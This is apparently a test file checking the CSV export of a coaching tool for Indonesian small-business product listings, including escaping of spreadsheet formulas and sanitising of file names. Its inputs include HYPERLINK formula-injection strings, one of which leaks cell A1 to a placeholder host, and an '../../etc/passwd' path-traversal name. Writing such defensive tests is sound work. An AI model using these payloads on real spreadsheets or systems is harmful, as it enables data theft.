import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { CSV_COLUMNS, csvFileName, sessionCsv } from '../../../extension/coaching/csv';
import { addEntries, addParticipant, entryFor, type Session } from '../../../extension/coaching/session-ops';
import { Listing } from '../../../shared/listing/schema';
import { T0, sampleSession } from '../../fixtures/coaching/sessions';

const parse = (text: string) => Papa.parse<Record<string, string>>(text, { header: true, skipEmptyLines: true });

describe('the session CSV', () => {
  it('has one row per listing with the scores at the start and now, and reads back in a spreadsheet', () => {
    const s = sampleSession({ fixed: true });
    const { data, meta, errors } = parse(sessionCsv(s));
    expect(errors).toEqual([]);
    expect(meta.fields).toEqual([...CSV_COLUMNS]);
    expect(data.map((r) => [r.peserta, r.judul_produk, r.skor_awal, r.skor_sekarang, r.perubahan])).toEqual(
      s.participants.flatMap((p) => p.listings.map((l) => [p.name, l.now.listing.title, String(l.start.score), String(l.now.score), String(l.now.score - l.start.score)])),
    );
    const sari = data[0]!;
    expect(sari).toMatchObject({ sesi: 'Pelatihan UMKM Bandung', tanggal: '2026-05-14', tempat: 'Kafe Kopi Aroma, Bandung', pelatih: 'Rina', whatsapp: '6281234567890', sumber: 'halaman produk' });
    expect(sari.sudah_diperbaiki).toContain('Judul HURUF BESAR semua');
    expect(sari.masalah_sekarang).not.toContain('Judul HURUF BESAR semua');
    expect(data[1]).toMatchObject({ sumber: 'spreadsheet', asal: 'toko-budi.xlsx, baris 3', sudah_diperbaiki: '' });
  });

  it('keeps a participant without listings, and escapes text a spreadsheet would run as a formula', () => {
    let s: Session = sampleSession();
    const added = addParticipant(s, { name: '=HYPERLINK("http://contoh.invalid","klik")', shop: '+62 Toko' }, T0, 'p-x');
    if (!added.ok) throw new Error('fixture');
    s = added.session;
    const text = sessionCsv(s);
    const last = parse(text).data.at(-1)!;
    expect(last.peserta).toBe('\'=HYPERLINK("http://contoh.invalid","klik")');
    expect(last.toko).toBe('\'+62 Toko');
    expect(last.judul_produk).toBe('');
    expect(text).not.toMatch(/(^|,)=HYPERLINK/m);
  });

  it('escapes a formula title that goes on after a line break (spreadsheet imports keep inner newlines)', () => {
    const title = '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")\nKeripik Pisang Lampung 250 gr';
    const entry = entryFor({ listing: Listing.parse({ marketplace: 'shopee', title }), source: 'sheet', origin: 'toko.xlsx, baris 2' }, T0, 'l-formula');
    const added = addEntries(sampleSession(), 'p-budi', [entry], T0);
    if (!added.ok) throw new Error('fixture');
    const row = parse(sessionCsv(added.session)).data.find((r) => r.judul_produk.includes('HYPERLINK'))!;
    expect(row.judul_produk).toBe(`'${title}`);
    expect(row.perubahan).toBe('0');
  });

  it('names the file after the session and its day', () => {
    expect(csvFileName(sampleSession())).toBe('pelatihan-umkm-bandung-2026-05-14.csv');
    expect(csvFileName({ ...sampleSession(), name: '../../etc/passwd ✨' })).toBe('etc-passwd-2026-05-14.csv');
  });
});
